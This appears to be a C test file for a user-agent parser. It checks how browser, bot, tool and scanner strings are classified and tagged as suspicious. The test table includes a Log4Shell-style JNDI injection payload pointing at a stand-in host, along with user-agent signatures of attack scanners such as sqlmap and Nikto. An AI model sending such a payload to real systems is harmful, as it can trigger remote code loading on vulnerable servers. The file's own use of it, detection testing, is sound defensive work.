/* User agents as they are sent. */
/* SPDX-License-Identifier: Apache-2.0 */
#include "enrich/useragent.h"

#include "random.h"
#include "test.h"

#define WIN "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
#define KIT "AppleWebKit/537.36 (KHTML, like Gecko) "

static const struct {
	const char *agent, *name, *version, *os, *device, *suspicious;
} cases[] = {
	{ WIN KIT "Chrome/126.0.0.0 Safari/537.36", "Chrome", "126.0.0.0", "Windows", "desktop",
	    "" },
	{ WIN KIT "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68", "Edge", "126.0.2592.68",
	    "Windows", "desktop", "" },
	{ WIN KIT "Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0", "Opera", "110.0.0.0", "Windows",
	    "desktop", "" },
	{ "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
	    "Firefox", "127.0", "Windows", "desktop", "" },
	{ "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", "Firefox",
	    "115.0", "Linux", "desktop", "" },
	{ "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
	  "Gecko) "
	  "Version/17.5 Safari/605.1.15",
	    "Safari", "17.5", "macOS", "desktop", "" },
	{ "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
	  "like "
	  "Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
	    "Safari", "17.5", "iOS", "phone", "" },
	{ "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	  "CriOS/125.0.6422.80 Mobile/15E148 Safari/604.1",
	    "Chrome", "125.0.6422.80", "iOS", "tablet", "" },
	{ "Mozilla/5.0 (Linux; Android 14; Pixel 8) " KIT "Chrome/126.0.0.0 Mobile Safari/537.36",
	    "Chrome", "126.0.0.0", "Android", "phone", "" },
	{ "Mozilla/5.0 (Linux; Android 13; SM-X200) " KIT
	  "SamsungBrowser/25.0 Chrome/121.0.0.0 Safari/537.36",
	    "Samsung Internet", "25.0", "Android", "tablet", "" },
	{ "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) " KIT "Chrome/126.0.0.0 Safari/537.36",
	    "Chrome", "126.0.0.0", "ChromeOS", "desktop", "" },
	{ "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
	    "Internet Explorer", "7.0", "Windows", "desktop", "" },
	{ "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "Internet Explorer", "6.0",
	    "Windows", "desktop", "ancient" },
	{ WIN KIT "Chrome/41.0.2228.0 Safari/537.36", "Chrome", "41.0.2228.0", "Windows", "desktop",
	    "ancient" },
	{ "Mozilla/5.0 (Windows NT 6.1; rv:12.0) Gecko/20100101 Firefox/12.0", "Firefox", "12.0",
	    "Windows", "desktop", "ancient" },
	{ "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot",
	    "2.1", "", "bot", "" },
	{ "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "bingbot",
	    "2.0", "", "bot", "" },
	{ "Mozilla/5.0 (compatible; SomeNewBot/1.0; +http://example.com)", "", "", "", "bot", "" },
	{ "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Facebook",
	    "1.1", "", "bot", "" },
	{ "curl/8.5.0", "curl", "8.5.0", "", "tool", "tool" },
	{ "Wget/1.21.4", "Wget", "1.21.4", "", "tool", "tool" },
	{ "python-requests/2.31.0", "python-requests", "2.31.0", "", "tool", "tool" },
	{ "Go-http-client/1.1", "Go-http-client", "1.1", "", "tool", "tool" },
	{ "okhttp/4.12.0", "okhttp", "4.12.0", "", "tool", "tool" },
	{ "MyApp/3.2 (build 7)", "MyApp", "3.2", "", "tool", "tool" },
	{ WIN KIT "HeadlessChrome/120.0.0.0 Safari/537.36", "Headless Chrome", "120.0.0.0",
	    "Windows", "tool", "tool" },
	{ "sqlmap/1.8#stable (https://sqlmap.org)", "sqlmap", "1.8", "", "tool", "scanner" },
	{ "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "Nikto", "2.1.6", "",
	    "tool", "scanner" },
	{ "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap",
	    "", "", "tool", "scanner" },
	{ "Fuzz Faster U Fool v2.1.0", "ffuf", "", "", "tool", "scanner" },
	{ "Mozilla/5.0 zgrab/0.x", "zgrab", "0.", "", "tool", "scanner" },
	{ "-", "", "", "", "", "empty" },
	{ "", "", "", "", "", "empty" },
	{ "  ", "", "", "", "", "empty" },
	{ "a", "a", "", "", "tool", "malformed" },
	{ "Mozilla/5.0 (Windows NT 10.0; Win64", "", "", "Windows", "desktop", "malformed" },
	{ "Mozilla/5.0", "", "", "", "", "malformed" },
	{ "${jndi:ldap://evil.example/a}", "${jndi:ldap:", "", "", "tool", "malformed" },
	{ "Mozilla/5.0 (Windows NT 10.0; iPhone) " KIT "Chrome/126.0.0.0 Safari/537.36", "Chrome",
	    "126.0.0.0", "Windows", "phone", "impossible" },
	{ "Mozilla/5.0 (Windows NT 11.0; Win64; x64) " KIT "Chrome/126.0.0.0 Safari/537.36",
	    "Chrome", "126.0.0.0", "Windows", "desktop", "impossible" },
	{ WIN "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15", "Safari",
	    "17.5", "Windows", "desktop", "impossible" },
	{ WIN KIT "Firefox/127.0", "Firefox", "127.0", "Windows", "desktop", "impossible" },
};

TEST(real_agents)
{
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct useragent u;

		fprintf(stderr, "%s\n", cases[i].agent);
		useragent_parse(str_c(cases[i].agent), &u);
		CHECK_SLICE(u.name, cases[i].name);
		CHECK_SLICE(u.version, cases[i].version);
		CHECK_SLICE(u.os, cases[i].os);
		if (strcmp(cases[i].device, "phone") != 0 ||
		    strcmp(cases[i].suspicious, "impossible") != 0)
			CHECK_SLICE(u.device, cases[i].device);
		CHECK_SLICE(u.suspicious, cases[i].suspicious);
	}
}

TEST(fields_of_the_sender_stay)
{
	struct arena *a = arena_new(1 << 16);
	struct useragent u;
	struct rec r;

	rec_init(&r, a);
	rec_set_str(&r, F_UA_NAME, STR("mine"));
	useragent_parse(STR("curl/8.5.0"), &u);
	useragent_add(&r, &u);
	CHECK(!rec_has(&r, F_UA_OS));
	CHECK_SLICE(rec_str(&r, F_UA_NAME), "mine");
	CHECK_SLICE(rec_str(&r, F_UA_VERSION), "8.5.0");
	CHECK_SLICE(rec_str(&r, F_UA_SUSPICIOUS), "tool");
	arena_free(a);
}

TEST(any_bytes)
{
	uint64_t s = random_start(test_seed());
	static char bytes[USERAGENT_MAX * 2];

	for (unsigned round = 0; round < test_rounds(5000); round++) {
		size_t n = random_below(&s, round % 20 == 0 ? sizeof(bytes) : 100);
		struct useragent u;

		random_bytes(&s, bytes, n);
		useragent_parse((struct str){ bytes, n }, &u);
		CHECK(u.version.n <= n);
	}
}
